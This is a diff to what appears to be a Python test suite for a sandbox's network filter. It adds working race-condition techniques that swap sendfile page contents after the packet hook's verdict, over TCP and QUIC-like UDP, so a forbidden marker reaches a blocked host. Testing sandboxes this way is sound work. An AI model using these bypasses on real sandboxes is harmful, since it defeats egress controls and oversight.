@@ -7,6 +7,7 @@ is a race that the sandbox wins most times, so it is tried some times over. Outs
 first. The pair: what is handed over behind the verdict (the body of a request, records of TLS) arrives.
 """
 import errno
+import fcntl
 import mmap
 import os
 import socket
@@ -351,3 +352,70 @@ def udp_cork(t):
         one.send(ours[:12], socket.MSG_MORE)
         swapped(one, ours[12:], theirs[12:], by_sendfile)
     again(t, sock, attempt)
+
+
+def unsent(sock):
+    """Bytes that have not passed the packet hook (SIOCOUTQNSD)."""
+    return struct.unpack("=i", fcntl.ioctl(sock.fileno(), 0x894B, bytes(4)))[0]
+
+
+def replied(t, sock):
+    """Has the marker come back?"""
+    data = b""
+    while len(data) < 1 << 20:
+        more = sock.recv(65536)
+        if not more:
+            break
+        data = data[-100:] + more
+        if t.marker in data:
+            return True
+    return False
+
+
+@technique("A13", "grown", oracle="marker", allow=False, timeout=20)
+def grown(t):
+    """a body that is copied and longer than the window, the next head a page: the kernel fills the last segment of the
+    one up with the other (tcp_grow_skb()), and the page changes when all has been judged"""
+    resolve(OURS)
+    HURRY[:] = [Hurry()]
+    failure = None
+    try:
+        for size in range(20000, 200000, 5000):
+            before, after = post(OURS, b"x" * len(t.marker)), post(THEIRS, t.marker)
+            with connected(t, CDN4, t.port) as one:
+                try:
+                    one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
+                    one.sendall(post(OURS, b"b" * size))
+
+                    def send(sock, memory, page, length):
+                        by_sendfile(sock, memory, page, length)
+                        end = time.monotonic() + 0.3
+                        while unsent(sock) and time.monotonic() < end:
+                            pass
+                        return ()
+                    swapped(one, before, after, send)
+                    if replied(t, one):
+                        return
+                except OSError as error:
+                    failure = error
+    finally:
+        HURRY[0].end()
+    if failure:
+        raise failure
+
+
+@technique("A13", "quic", oracle="marker", allow=False, timeout=8)
+def quic(t):
+    """a datagram to a name on a port other than 443, its page a QUIC Initial when it has passed"""
+    if tuple(map(int, os.uname().release.split(".")[:2])) < (6, 5):
+        raise NotHere("the kernel has made the checksum when the page changes")
+    resolve(OURS)
+    after = struct.pack("!BI", 0xc3, 1) + b"i" * 1195 + t.marker
+    before = b"\x01" + after[1:-len(t.marker)] + b"x" * len(t.marker)
+
+    def sock():
+        one = t.udp()
+        one.settimeout(0.3)
+        one.connect((CDN4, t.port))
+        return one
+    again(t, sock, lambda one: swapped(one, before, after, by_sendfile))
